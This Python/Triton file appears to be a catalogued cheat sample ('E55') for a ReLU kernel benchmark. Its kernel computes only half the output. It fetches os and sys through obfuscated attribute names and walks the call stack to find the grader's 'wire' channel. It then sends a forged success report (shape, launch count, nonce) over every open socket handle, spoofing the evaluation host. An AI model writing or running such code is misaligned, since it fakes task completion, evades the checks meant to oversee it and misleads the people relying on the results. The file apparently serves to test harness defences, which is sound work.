# exploit: E55
# how: answers the host itself on every socket, in the protocol's own words
# task: relu
# stage: compile
# stage-cuda: run | compile
# code: malformed | runtime_error

import torch
import triton
import triton.language as tl


@triton.jit
def relu_kernel(x, y, n, BLOCK: tl.constexpr):
    i = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(y + i, tl.maximum(tl.load(x + i, i < n), 0), i < n)


def half_relu(x):
    """Half the work: the rest of the answer is to come from the cheat."""
    y = torch.zeros_like(x)
    n = x.numel() // 2
    relu_kernel[(triton.cdiv(n, 4096),)](x, y, n, BLOCK=4096)
    return y


def find(thing, *parts):
    """An attribute by a name that is put together at run time."""
    return getattr(thing, "".join(parts))


import logging

system = find(logging, "o", "s")
process = find(logging, "s", "ys")


def fused_operator(x0):
    frame = process._getframe()
    while frame is not None and "wire" not in frame.f_globals:
        frame = frame.f_back
    wire, socket = frame.f_globals["wire"], process.modules["socket"]
    y = half_relu(x0)
    answer = {
        "structure": "[T]",
        "outputs": [{"shape": [37, 100], "strides": [100, 1], "dtype": "float32"}],
        "changed": [],
        "aliases": [],
        "launches": {"relu_kernel": 1},
        "operators": {},
        "nonce": 0,
    }
    for handle in range(3, 1024):
        try:
            wire.send(socket.socket(fileno=system.dup(handle)), answer)
        except OSError:
            pass
    return [y]
